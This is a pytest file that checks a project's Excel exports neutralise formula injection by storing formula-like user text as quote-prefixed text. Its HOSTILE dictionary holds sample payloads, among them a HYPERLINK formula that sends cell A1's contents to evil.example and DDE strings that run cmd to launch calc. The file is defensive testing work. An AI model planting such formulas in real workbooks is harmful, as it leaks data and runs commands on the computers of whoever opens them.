"""Formula injection (issue 15, finding 4): every workbook the project writes keeps user
text that looks like a formula as quote-prefixed text, never as a formula."""

from __future__ import annotations

import io
from collections.abc import Iterator
from datetime import date, datetime

import openpyxl
import pytest
from openpyxl.cell.cell import Cell
from sqlalchemy import select
from sqlalchemy.orm import Session

from workflow import spreadsheet
from workflow.importer import export_columns
from workflow.models import Item
from workflow.reporting.common import parse_period
from workflow.reporting.exports import assessment_xlsx, submissions_xlsx

from .factories import World
from .reporting_portal import NOW, october_portal

# One of each start a spreadsheet program reads as a formula (OWASP CSV injection).
HOSTILE = {
    "a": '=HYPERLINK("http://evil.example/?x="&A1,"F1")',
    "b": "+1+cmd|' /C calc'!A0",
    "c": "@SUM(1+1)*cmd|' /C calc'!A0",
    "column": "-2+3+cmd|' /C calc'!A0",
    "title": '=HYPERLINK("http://evil.example","点此查看")',
    "content": "\t=1+1",
    "requirement": "\r\n=1+1",
}


def cells(data: bytes) -> Iterator[Cell]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell, Cell):  # merged cells hold nothing
                    yield cell


def assert_guarded(data: bytes, expected: set[str]) -> None:
    """No formula anywhere; each hostile text is there intact, as quote-prefixed text."""
    found: set[str] = set()
    for cell in cells(data):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if spreadsheet.needs_guard(cell.value):
            assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            found.update(h for h in expected if h in cell.value)
            if cell.value in expected:
                assert cell.quotePrefix
    assert found == expected


def test_only_text_that_starts_like_a_formula_is_guarded() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    values = [
        "=1+1",
        "+1",
        "-1",
        "@A1",
        "\tx",
        "\rx",
        "\nx",
        "标题",
        "a=b",
        -3,
        2.5,
        date(2026, 10, 1),
    ]
    spreadsheet.append(sheet, values)
    buffer = io.BytesIO()
    book.save(buffer)
    back = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    assert back is not None
    row = list(back[1])
    assert [c.value for c in row[:11]] == values[:11]
    assert row[11].value == datetime(2026, 10, 1)  # a date stays a date
    assert row[11].is_date
    assert [c.data_type for c in row] == ["s"] * 9 + ["n", "n", "d"]
    assert [bool(c.quotePrefix) for c in row] == [True] * 7 + [False] * 5


def test_set_value_guards_and_unguards() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    cell = spreadsheet.set_value(sheet["A1"], "=1+1")
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    spreadsheet.set_value(cell, "普通文字")
    assert (cell.data_type, cell.quotePrefix) == ("s", False)


@pytest.fixture
def hostile(session: Session, world: World) -> World:
    """The October portal with units, a column and the items' titles named to attack."""
    portal = october_portal(session, world)
    world.unit_a.name = HOSTILE["a"]
    world.unit_b.name = HOSTILE["b"]
    portal.unit_c.name = HOSTILE["c"]
    for column in portal.columns.values():
        column.name = column.path = HOSTILE["column"] + column.name
    world.column.name = world.column.path = HOSTILE["column"]
    for item in session.scalars(select(Item).where(Item.column_id == world.column.id)):
        item.title = HOSTILE["title"]
    session.flush()
    return world


def test_assessment_workbook_has_no_formula(hostile: World, session: Session) -> None:
    data = assessment_xlsx(session, parse_period("2026-10"), NOW)
    names = {s.title for s in openpyxl.load_workbook(io.BytesIO(data)).worksheets}
    assert names == {"考核排名", "逾期明细", "当前逾期"}  # the ranking, late and overdue sheets
    assert_guarded(data, {HOSTILE["a"], HOSTILE["b"], HOSTILE["c"], HOSTILE["column"]})
    # The year's workbook adds the 年底突击 sheet (December): built the same way.
    year = assessment_xlsx(session, parse_period("2026"), NOW)
    assert "年底突击" in openpyxl.load_workbook(io.BytesIO(year)).sheetnames
    assert_guarded(year, {HOSTILE["a"], HOSTILE["b"], HOSTILE["c"], HOSTILE["column"]})


def test_submission_workbook_has_no_formula(hostile: World, session: Session) -> None:
    data = submissions_xlsx(session, date(2026, 9, 1), date(2026, 10, 31))
    assert_guarded(data, {HOSTILE["a"], HOSTILE["column"], HOSTILE["title"]})


def test_column_export_has_no_formula(session: Session, world: World) -> None:
    # (That "=…" text re-imports unchanged is test_importer's round trip.)
    world.unit_a.name = HOSTILE["a"]
    world.unit_b.name = HOSTILE["b"]
    world.column.name = world.column.path = HOSTILE["column"]
    world.column.content = HOSTILE["content"]
    world.column.time_requirement = HOSTILE["requirement"]
    session.flush()
    data = export_columns(session)
    assert_guarded(
        data,
        {HOSTILE[k] for k in ("a", "b", "column", "content", "requirement")},
    )
